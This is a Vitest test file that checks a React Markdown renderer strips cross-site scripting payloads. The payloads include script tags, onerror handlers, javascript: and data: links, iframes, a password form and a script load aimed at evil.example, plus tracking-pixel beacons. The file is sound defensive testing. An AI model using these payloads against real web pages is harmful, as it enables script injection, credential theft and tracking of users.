import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { MarkdownBody } from './markdown-body.tsx';

const shown = (text: string) => renderToStaticMarkup(<MarkdownBody text={text} />);

/** What people try against sanitisers, by what it would do. */
const payloads: Record<string, string> = {
  'a script': '<script>alert(1)</script>',
  'a script in capitals': '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  'a picture that fails': '<img src=x onerror=alert(1)>',
  'a drawing': '<svg><script>alert(1)</script></svg>',
  'a drawing that loads': '<svg onload=alert(1)>',
  'a frame': '<iframe src="https://evil.example"></iframe>',
  'a frame with a document': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="javascript:alert(1)"></object>',
  'a form': '<form action="https://evil.example"><input name=password></form>',
  'a button that acts': '<button formaction="javascript:alert(1)">x</button>',
  'a style': '<style>body{display:none}</style>',
  'a style attribute': '<p style="position:fixed;inset:0">x</p>',
  'a base address': '<base href="https://evil.example/">',
  'a redirect': '<meta http-equiv=refresh content="0;url=https://evil.example">',
  'a link to a script': '[x](javascript:alert(1))',
  'a link to a script with a tab': '[x](java\tscript:alert(1))',
  'a link to a script in entities': '[x](&#106;avascript:alert(1))',
  'a link to old scripts': '[x](vbscript:msgbox(1))',
  'a link to a document of data': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'an automatic link to a script': '<javascript:alert(1)>',
  'a reference to a script': '[x][y]\n\n[y]: javascript:alert(1)',
  'a broken tag': '<img/src="x"/onerror=alert(1)//',
  'a nested tag': '<<script>script>alert(1)<</script>/script>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a name that hides ours': '<a id="page" name="getElementById">x</a>',
};

describe('a formatted text', () => {
  it.each(Object.entries(payloads))('takes no harm from %s', (_, payload) => {
    const html = shown(payload);
    expect(html).not.toMatch(/<(?:script|svg|iframe|object|embed|form|input|button|style|base|meta|link)\b/i);
    expect(html).not.toMatch(/<[^>]+\s(?:on\w+|style|srcdoc|formaction|name|id)\s*=/i);
    expect(html).not.toMatch(/(?:href|src)\s*=\s*["']?\s*(?:java|vb)script:/i);
    expect(html).not.toMatch(/(?:href|src)\s*=\s*["']?\s*data:text/i);
  });

  it.each([
    '![pixel](https://evil.example/p.gif?who=ada)',
    '![pixel](//evil.example/p.gif)',
    '![pixel](http://127.0.0.1/p.gif)',
    '![p][q]\n\n[q]: https://evil.example/p.gif',
    '<img src="https://evil.example/p.gif">',
  ])('loads no picture from elsewhere: %s', (text) => {
    expect(shown(text)).not.toMatch(/<img|url\(|srcset/);
  });

  it('opens links in a tab that knows nothing of ours', () => {
    expect(shown('[docs](https://example.com)')).toMatch(/rel="noopener noreferrer nofollow"/);
  });

  it('shows what it is for', () => {
    expect(shown('**bold** `code`\n\n- one\n- two')).toMatch(/<strong>bold<\/strong> <code>code<\/code>/);
  });
});
